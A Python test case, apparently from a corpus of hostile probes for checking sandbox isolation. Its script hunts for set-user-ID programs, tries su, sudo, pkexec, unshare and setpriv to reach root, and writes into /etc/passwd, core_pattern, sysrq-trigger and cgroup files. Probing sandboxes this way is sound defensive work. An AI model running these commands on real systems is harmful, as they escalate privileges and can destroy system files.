"""Becomes another user: setuid programs, user maps, capabilities of files."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import os, stat, subprocess

programs = []
for folder in os.environ["PATH"].split(":") + ["/usr/sbin", "/usr/lib/openssh"]:
    if os.path.isdir(folder):
        for entry in os.scandir(folder):
            if entry.is_file() and entry.stat().st_mode & (stat.S_ISUID | stat.S_ISGID):
                programs.append(entry.path)
print(len(programs), "programs with the set-user-ID bit")
commands = [["su", "-c", "id"], ["sudo", "-n", "id"], ["newgrp"], ["pkexec", "id"],
            ["unshare", "-Ur", "id"], ["unshare", "-m", "id"], ["chroot", "/", "id"],
            ["nsenter", "-t", "1", "-a", "id"], ["bwrap", "--ro-bind", "/", "/", "id"],
            ["mount", "-t", "tmpfs", "x", "/tmp"], ["setpriv", "--reuid", "0", "id"],
            ["busybox", "id"], ["chsh"], ["umount", "/tmp"]]
for command in commands:
    try:
        made = subprocess.run(command, capture_output=True, timeout=2,
                              stdin=subprocess.DEVNULL)
    except (OSError, subprocess.TimeoutExpired):
        continue
    if b"uid=0" in made.stdout or (command[0] == "mount" and not made.returncode):
        print("REACHED", command, made.stdout)
for path, text in {
    "/proc/self/uid_map": "0 0 1",
    "/proc/self/oom_score_adj": "-1000",
    "/proc/sysrq-trigger": "h",
    "/proc/sys/kernel/core_pattern": "|/tmp/x",
    "/proc/sys/kernel/hostname": "x",
    "/proc/sys/vm/drop_caches": "3",
    "/proc/self/attr/current": "unconfined",
    "/sys/fs/cgroup/cgroup.procs": "0",
    "/proc/self/ns/user": "x",
    "/etc/passwd": "x",
    "/proc/self/exe": "x",
    "/proc/1/exe": "x",
}.items():
    try:
        with open(path, "r+") as file:
            file.write(text)
        print("REACHED", path)
    except OSError:
        pass
for user in (0, 65534, 1000, os.getuid() + 1, os.getuid() - 1):
    for change in (os.setuid, os.setgid, lambda u: os.chown("/tmp", u, u)):
        try:
            change(user)
            if user != os.getuid():
                print("REACHED the user", user, change)
        except OSError:
            pass
if os.getuid() == 0 or os.getgroups() not in ([], [os.getgid()], [65534]):
    print("REACHED", os.getresuid(), os.getgroups())
print("TRIED")
"""
    },
    tried=True,
)
